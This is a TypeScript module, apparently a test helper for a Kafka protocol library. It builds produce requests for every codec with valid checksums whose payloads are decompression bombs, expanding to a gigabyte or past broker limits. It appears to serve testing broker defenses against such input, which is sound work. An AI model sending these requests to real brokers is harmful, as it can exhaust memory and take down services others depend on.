// Produce requests whose batches are sound, the CRC and all, and expand to a gigabyte (gzip, zstd)
// or to more than a broker takes (snappy, lz4).

import { type Codec, compress, crc32c, produceApi, Writer, writeRequest } from '@ottla/protocol';

const GIGABYTE = 1024 * 1024 * 1024;
const CODECS: readonly Codec[] = ['gzip', 'snappy', 'lz4', 'zstd'];
const CODEC_IDS: Readonly<Record<Codec, number>> = { none: 0, gzip: 1, snappy: 2, lz4: 3, zstd: 4 };
/** Records of 1 KB: the length 1030 as a zigzag varint, attributes, deltas, no key, the value. */
const VALUE_BYTES = 1_016;
const HEADER_BYTES = 61;
const CRC_AT = 17;
const ATTRIBUTES_AT = 21;
/** What the codecs that know no streams expand to. */
const STRETCH_BYTES = 64 * 1024 * 1024;

function recordBytes(): Buffer {
  const body = [0, 0, 0, 1, ...varint(VALUE_BYTES)];
  const value = Buffer.alloc(VALUE_BYTES, 'a');
  const length = varint(body.length + VALUE_BYTES + 1);
  return Buffer.concat([Buffer.from(length), Buffer.from(body), value, Buffer.of(0)]);
}

function varint(value: number): number[] {
  const raw = value << 1;
  return raw < 0x80 ? [raw] : [(raw & 0x7f) | 0x80, raw >>> 7];
}

/** The compressed records of a batch, and how many they are. */
function expanding(codec: Codec): { readonly blob: Uint8Array; readonly records: number } {
  const record = recordBytes();
  const perStretch = Math.floor(STRETCH_BYTES / record.length);
  const blob = compress(codec, Buffer.alloc(perStretch * record.length, record));
  // Members of gzip and frames of zstd follow each other.
  const isStream = codec === 'gzip' || codec === 'zstd';
  const times = isStream ? Math.ceil(GIGABYTE / STRETCH_BYTES) : 1;
  return { blob: Buffer.alloc(blob.length * times, blob), records: perStretch * times };
}

function batchOf(codec: Codec): Buffer {
  const { blob, records } = expanding(codec);
  const batch = Buffer.alloc(HEADER_BYTES + blob.length);
  batch.writeInt32BE(batch.length - 12, 8);
  batch.writeInt32BE(-1, 12);
  batch[16] = 2;
  batch.writeInt16BE(CODEC_IDS[codec], ATTRIBUTES_AT);
  batch.writeInt32BE(records - 1, 23);
  batch.writeBigInt64BE(BigInt(Date.now()), 27);
  batch.writeBigInt64BE(BigInt(Date.now()), 35);
  batch.writeBigInt64BE(-1n, 43);
  batch.writeInt16BE(-1, 51);
  batch.writeInt32BE(-1, 53);
  batch.writeInt32BE(records, 57);
  batch.set(blob, HEADER_BYTES);
  batch.writeUInt32BE(crc32c(batch, ATTRIBUTES_AT, batch.length), CRC_AT);
  return batch;
}

/** One request for each codec. */
export function bombs(topic: string): Buffer[] {
  return CODECS.map((codec) => {
    const partitionData = [{ index: 0, records: batchOf(codec) }];
    const writer = new Writer();
    const fields = { version: 9, correlationId: 1, clientId: 'bomb' };
    const topicData = [{ name: topic, partitionData }];
    writeRequest(writer, produceApi, fields, { acks: 1, timeoutMs: 30_000, topicData });
    return Buffer.concat(writer.finish());
  });
}
